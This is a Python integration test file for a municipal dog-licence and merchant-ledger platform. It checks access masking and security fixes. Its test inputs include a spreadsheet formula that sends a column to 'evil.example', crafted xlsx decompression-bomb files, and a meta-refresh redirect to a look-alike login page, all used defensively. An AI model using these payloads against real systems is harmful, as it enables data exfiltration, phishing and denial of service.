"""The holes of the second review, each closed and held closed, on the running platform (the services
in one process on the real PostgreSQL): the dog register open to every partner, a two-kilobyte
spreadsheet that stalled the ledger, HTML injected into the sign-in page, formulas in the exports,
photos kept before an application's rules were checked, a case naming any licence of the district,
and a squad leader's dashboard with the district's figures."""

from __future__ import annotations

import asyncio
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from common.clock import FixedClock
from common.messaging.memory import InMemoryTransport
from monolith.app import build_app, build_services
from tests.conftest import auth, running, token
from tests.helpers import eventually, photo_bytes

pytestmark = pytest.mark.integration
NOW = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)  # Monday 10:00 in Beijing
CLERK = auth("ledger_clerk", "clerk-0001")
SUPERVISOR = auth("supervisor", "sup-0001")
DISPATCHER = auth("dispatcher", "disp-0001")
RUHE = auth("squad_officer", "sq-ruhe-o1", "sq-ruhe")
XUSHUI = auth("squad_officer", "sq-xushui-o1", "sq-xushui")
PARTNER = auth("external_system", "city-platform")
OWNER = {
    "name": "李建华",
    "id_number": "410102199001011234",
    "phone": "13903711234",
    "address": "汝河路 12 号院 3 号楼",
    "location": {"lon": 113.6150, "lat": 34.7420},
    "alone": True,
}
DOG = {
    "name": "豆豆",
    "breed": "柯基犬",
    "size": "small",
    "sex": "female",
    "birth_date": "2026-01-10",
    "chip": "156100000765432",
}
RABIES = {"certificate": "ZY-2026-88123", "vaccinated_on": "2026-11-01"}
FORMULA = '=HYPERLINK("https://evil.example/?"&TEXTJOIN(",",1,D:D),"详情")'


@pytest.fixture
async def platform(database_url, tmp_path):
    clock = FixedClock(NOW)
    services = build_services(
        database_url,
        InMemoryTransport(),
        clock=clock,
        relay_poll_interval_s=0.2,
        object_store_url=f"file:{tmp_path}/objects",
        tick_interval_s=3600,
        import_max_seconds=2,
    )
    async with running(services, build_app(services)) as client:
        client.clock = clock
        client.objects = tmp_path / "objects"
        client.services = {s.name: s for s in services}

        async def grids():
            return (await client.get("/v1/ledger/grids", headers=CLERK)).json()["features"]

        await eventually(grids, lambda f: len(f) >= 6, what="the grids in the ledger")
        yield client


async def _licence(client) -> dict:
    r = await client.post("/v1/dog-licences", headers=CLERK, json={"owner": OWNER, "dog": DOG, "rabies": RABIES})
    assert r.status_code == 201, r.text
    return r.json()


async def test_only_the_registers_keepers_list_the_dog_register_and_others_find_one_licence_without_the_owner(platform):
    licence = await _licence(platform)
    assert licence["grid_id"] == "zy-ruhelu" and licence["owner"]["address"]  # the clerk's own view
    assert len((await platform.get("/v1/dog-licences", headers=SUPERVISOR)).json()) == 1

    for reader in (PARTNER, RUHE, DISPATCHER):  # no list of the register, whatever the paging
        for query in ("", "?status=active", "?offset=0&limit=500", f"?chip={DOG['chip']}&offset=1"):
            r = await platform.get(f"/v1/dog-licences{query}", headers=reader)
            assert r.status_code == 422 and "one of chip, tag or number" in r.text, (query, r.text)

    for reader in (PARTNER, RUHE, DISPATCHER):
        found = await platform.get(f"/v1/dog-licences?chip={DOG['chip']}", headers=reader)
        assert found.status_code == 200 and len(found.json()) == 1, found.text
        seen = found.json()[0]
        assert seen["number"] == licence["number"] and seen["status"] == "active"
        assert seen["owner"] == {"name": "李**"} and seen["dog"]["breed"] == "柯基犬"
        for private in ("汝河路", "13903711234", "139****1234", "410***", "alone", "location", "113.615"):
            assert private not in found.text, private
        one = await platform.get(f"/v1/dog-licences/{licence['id']}", headers=reader)
        assert one.json()["owner"] == {"name": "李**"} and "history" not in one.json()
    # a squad sees what its own grids hold
    assert (await platform.get(f"/v1/dog-licences?chip={DOG['chip']}", headers=XUSHUI)).json() == []
    assert (await platform.get(f"/v1/dog-licences/{licence['id']}", headers=XUSHUI)).status_code == 404

    # the owner's phone: the clerks, and a program whose client was given the scope on purpose
    contact = f"/v1/dog-licences/{licence['id']}/contact"
    sms = {"Authorization": "Bearer " + token("external_system", "sms-gateway", scopes=("dog-owner-contact",))}
    assert (await platform.get(contact, headers=sms)).json()["phone"] == "13903711234"
    for reader in (PARTNER, RUHE, DISPATCHER, SUPERVISOR):
        r = await platform.get(contact, headers=reader)
        assert r.status_code == 403, (reader, r.text)
    assert "dog-owner-contact" in (await platform.get(contact, headers=PARTNER)).text
    # the shelter is the bureau's: no partner reads it
    assert (await platform.get("/v1/strays", headers=PARTNER)).status_code == 403


async def test_a_list_of_merchants_names_the_operator_masked_but_for_the_keepers(platform):
    r = await platform.post(
        "/v1/merchants",
        headers=CLERK,
        json={
            "name": "老王烩面馆",
            "operator": "王建国",
            "phone": "13937112345",
            "address": "汝河路 88 号",
            "business_nature": "餐饮",
            "location": {"lon": 113.6202, "lat": 34.7501},
        },
    )
    assert r.status_code == 201, r.text
    listed = (await platform.get("/v1/merchants?q=老王", headers=RUHE)).json()
    assert listed[0]["operator"] == "王**" and listed[0]["phone"] == "139****2345"
    assert (await platform.get(f"/v1/merchants/{r.json()['id']}", headers=RUHE)).json()["operator"] == "王建国"
    assert (await platform.get("/v1/merchants?q=老王", headers=CLERK)).json()[0]["operator"] == "王建国"


def _xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item.filename, replace.pop(item.filename, src.read(item.filename)))
        for name, data in replace.items():
            z.writestr(name, data)
    return out.getvalue()


async def test_a_spreadsheet_declaring_a_million_rows_or_bombing_its_strings_is_refused_and_the_ledger_answers(
    platform,
):
    header = ["name", "operator", "address", "business_nature"]
    survey = _xlsx([header, ["老王烩面馆", "王某", "汝河路88号", "catering"]])
    sheet = zipfile.ZipFile(io.BytesIO(survey)).read("xl/worksheets/sheet1.xml").decode()
    sheet = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', sheet)
    sheet = sheet.replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    tall = _rezip(survey, {"xl/worksheets/sheet1.xml": sheet.encode()})
    strings = _rezip(survey, {"xl/sharedStrings.xml": b"<sst><si><t>" + b"a" * 40_000_000 + b"</t></si></sst>"})
    assert len(tall) < 8_000 and len(strings) < 200_000

    async def post(data: bytes):
        return await platform.post(
            "/v1/merchants/import", headers=CLERK, files={"file": ("survey.xlsx", data, "application/octet-stream")}
        )

    async def meanwhile():  # the ledger answers while the files are read (off the event loop)
        answers = []
        for _ in range(5):
            answers.append((await platform.get("/v1/ledger/figures", headers=CLERK)).status_code)
            await asyncio.sleep(0.05)
        return answers

    tall_r, strings_r, others = await asyncio.gather(post(tall), post(strings), meanwhile())
    assert tall_r.status_code == 413 and "more than 50000 rows" in tall_r.text, tall_r.text
    assert strings_r.status_code == 413 and "sharedStrings.xml unpacks" in strings_r.text, strings_r.text
    assert others == [200] * 5
    ok = await post(survey)  # and a real survey still goes in
    assert ok.status_code == 200 and ok.json()["accepted"] == 1, ok.text


async def test_the_exports_write_a_shop_named_like_a_formula_as_text(platform):
    quoted = FORMULA.replace('"', '""')
    survey = f'name,operator,address,business_nature,phone\n"{quoted}",@王某,+汝河路88号,catering,13937112345\n'
    r = await platform.post("/v1/merchants/import", headers=CLERK, files={"file": ("survey.csv", survey.encode())})
    assert r.status_code == 200 and r.json()["accepted"] == 1, r.text
    xlsx = await platform.get("/v1/merchants/export?format=xlsx", headers=CLERK)
    cell = load_workbook(io.BytesIO(xlsx.content)).active.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml").decode()
    csv = (await platform.get("/v1/merchants/export?format=csv", headers=CLERK)).content.decode("utf-8-sig")
    row = csv.splitlines()[1]
    assert row.startswith("\"'=HYPERLINK(") and ",'@王某," in row and ",'+汝河路88号," in row


async def test_the_sign_in_page_shows_the_providers_words_and_obeys_none_of_them(platform):
    bait = '<meta http-equiv=refresh content="0;url=https://look-alike.example/login">'
    for page in ("/ledger", "/console", "/reports"):
        r = await platform.get(f"{page}/auth/callback", params={"error": "x", "error_description": bait + "x" * 500})
        assert r.status_code == 400
        assert "<meta http-equiv=refresh" not in r.text and "&lt;meta http-equiv=refresh" in r.text
        assert "x" * 250 not in r.text  # capped


async def test_an_online_application_is_checked_before_its_photos_are_kept_and_a_household_is_the_clerks_to_tell(
    platform,
):
    form = {
        "owner_name": "刘女士",
        "owner_id_number": "410102199001011234",
        "owner_phone": "13903711234",
        "owner_address": "汝河路 12 号院 3 号楼",
        "dog_name": "豆豆",
        "breed": "柯基犬",
        "sex": "female",
        "birth_date": "2026-01-10",
        "size": "small",
        "rabies_certificate": "ZY-2026-88123",
        "vaccinated_on": "2026-11-01",
    }
    photos = [
        ("dog_photo", ("dog.jpg", photo_bytes((180, 140, 90)), "image/jpeg")),
        ("certificate_photo", ("cert.png", photo_bytes((240, 240, 240), fmt="PNG"), "image/png")),
    ]
    kept = lambda: sorted(p.name for p in platform.objects.rglob("*") if p.is_file())  # noqa: E731
    young = await platform.post(
        "/public/v1/dog-applications",
        data={**form, "birth_date": "2026-10-01"},
        files=photos,
        headers={"X-Forwarded-For": "1.2.3.4"},
    )
    assert young.status_code == 422 and young.json()["detail"][0]["rule"] == "too_young"
    assert kept() == []  # refused: nothing was kept

    # a household of a key zone with a dog already: the public form says nothing of it, the clerk is told
    zone = {"lon": "113.6350", "lat": "34.7460"}  # in the demo district's key zone 碧沙岗公园及周边
    first = await platform.post(
        "/v1/dog-licences",
        headers=CLERK,
        json={
            "owner": {**OWNER, "location": {"lon": 113.6350, "lat": 34.7460}, "address": "建设路 1 号院"},
            "dog": {**DOG, "chip": None},
            "rabies": RABIES,
        },
    )
    assert first.status_code == 201 and first.json()["zone_id"], first.text
    r = await platform.post(
        "/public/v1/dog-applications",
        data={**form, **zone, "owner_address": "建设路 1 号院", "owner_id_number": OWNER["id_number"]},
        files=photos,
        headers={"X-Forwarded-For": "1.2.3.5"},
    )
    assert r.status_code == 201 and "household" not in r.text and "一户一犬" not in r.text, r.text
    assert len(kept()) == 2
    queue = (await platform.get("/v1/dog-applications?limit=1", headers=CLERK)).json()
    assert len(queue) == 1 and queue[0]["flags"][0]["rule"] == "key_zone_household"
    assert (await platform.get("/v1/dog-applications?limit=1&offset=1", headers=CLERK)).json() == []


async def test_a_case_names_only_a_dog_licence_of_its_own_grid_or_squad(platform):
    licence = await _licence(platform)  # a household in 汝河路网格 (汝河中队)
    known = platform.services["cases"]
    from cases.tables import KnownDogLicence

    async def placed():
        async with known.session_factory() as session:
            x = await session.get(KnownDogLicence, licence["id"])
            return x and (x.grid_id, x.squad_id)

    assert await eventually(placed, lambda p: p == ("zy-ruhelu", "sq-ruhe"), what="cases knows where it is")
    far = await platform.post(
        "/v1/incidents",
        headers=auth("hotline_operator"),
        json={
            "category": "dog_nuisance",
            "location": {"lon": 113.6405, "lat": 34.7555},  # another squad's grid
            "description": "小区内犬只吠叫扰民",
            "caller": {"name": "邻居", "phone": "13811112222"},
        },
    )
    assert far.status_code == 201

    async def incident():
        return (await platform.get(f"/v1/incidents/{far.json()['id']}", headers=auth("hotline_operator"))).json()

    case = await eventually(incident, lambda i: i["status"] == "dispatched", what="dispatched")
    squad = case["squad"]["id"]
    assert squad != "sq-ruhe"
    files = [("before", ("b.jpg", photo_bytes(), "image/jpeg")), ("after", ("a.jpg", photo_bytes(), "image/jpeg"))]
    r = await platform.post(
        f"/v1/cases/{case['case_id']}/handle",
        files=files,
        headers=auth("squad_leader", f"{squad}-leader", squad),
        data={"outcome": "violation", "dog_licence_id": licence["id"]},
    )
    assert r.status_code == 422 and "outside case" in r.text, r.text


async def test_a_squad_leaders_dashboard_shows_the_squad_and_the_district_average_not_the_districts_registers(platform):
    leader = auth("squad_leader", "sq-ruhe-leader", "sq-ruhe")
    live = (await platform.get("/v1/reports/live", headers=leader)).json()
    assert live["scope"] == "sq-ruhe" and live["dogs"] is None and live["ledger"] is None
    assert set(live["district_average"]) >= {"disposal_rate", "on_time_disposal_rate"}
    assert "received" not in live["district_average"]  # rates only, no district counts
    whole = (await platform.get("/v1/reports/live", headers=SUPERVISOR)).json()
    assert whole["dogs"] is not None and whole["district_average"] is None
    for chart in ("trend", "categories"):
        svg = (await platform.get(f"/v1/reports/charts/{chart}.svg", headers=leader)).text
        assert svg.startswith("<svg") and ("立案" in svg or "本中队" in svg), chart
    flag = await platform.get("/v1/reports/charts/flag.svg", headers=leader)
    assert flag.status_code == 200 and "<svg" in flag.text and "fill: rgb(77%,15%,15%)" in flag.text  # red, drawn


def test_nothing_a_bureau_prints_or_shows_draws_the_red_flag_with_an_emoji():
    root = Path(__file__).resolve().parents[2] / "services"
    for page in root.rglob("*"):
        if page.suffix in (".html", ".py") and page.is_file():
            assert "\U0001f6a9" not in page.read_text(encoding="utf-8"), page


async def test_signing_out_on_one_services_page_ends_the_persons_sessions_on_the_others(
    database_url, kafka, namespace, tmp_path
):
    """As under `make up`: the console (dispatch) and the ledger's page each keep their own sessions;
    a sign-out on the console reaches the ledger on Kafka (StaffSignedOut) and ends the person there."""
    import httpx

    from common.auth import Principal, Role
    from common.service import create_app, start_all
    from common.web_session import ProviderTokens

    services = build_services(
        database_url,
        None,
        bus="kafka",
        kafka_bootstrap=kafka.bootstrap,
        kafka_namespace=namespace,
        relay_poll_interval_s=0.2,
        object_store_url=f"file:{tmp_path}/objects",
    )
    started = []
    try:
        await start_all(services, started)
        by_name = {s.name: s for s in services}
        console_app, ledger_app = (
            create_app([by_name["dispatch"]], title="d"),
            create_app([by_name["ledger"]], title="l"),
        )
        console, ledger = console_app.state.page_sessions, ledger_app.state.page_sessions
        assert console.store is not ledger.store and console.cookie != ledger.cookie  # two services, two stores
        supervisor = Principal("sup-0001", Role.supervisor)
        at_console = await console.store.open(supervisor, "李国庆", "/console", ProviderTokens())
        at_ledger = await ledger.store.open(supervisor, "李国庆", "/ledger", ProviderTokens())
        someone_else = await ledger.store.open(
            Principal("clerk-0001", Role.ledger_clerk), "钱红", "/ledger", ProviderTokens()
        )
        transport = httpx.ASGITransport
        async with (
            httpx.AsyncClient(transport=transport(app=console_app), base_url="http://d") as d,
            httpx.AsyncClient(transport=transport(app=ledger_app), base_url="http://l") as led,
        ):
            d.cookies.set(console.cookie, at_console)
            csrf = (await d.get("/console/auth/session")).json()["csrf"]
            r = await d.post("/console/auth/logout", data={"csrf": csrf})
            assert r.status_code == 303

            async def at_the_ledger(session_id):
                return (await led.get("/ledger/auth/session", cookies={ledger.cookie: session_id})).status_code

            await eventually(
                lambda: at_the_ledger(at_ledger),
                lambda code: code == 401,
                timeout_s=60,
                what="the supervisor signed out of the ledger too",
            )
            assert await at_the_ledger(someone_else) == 200  # nobody else
    finally:
        for s in reversed(started):
            await s.stop()
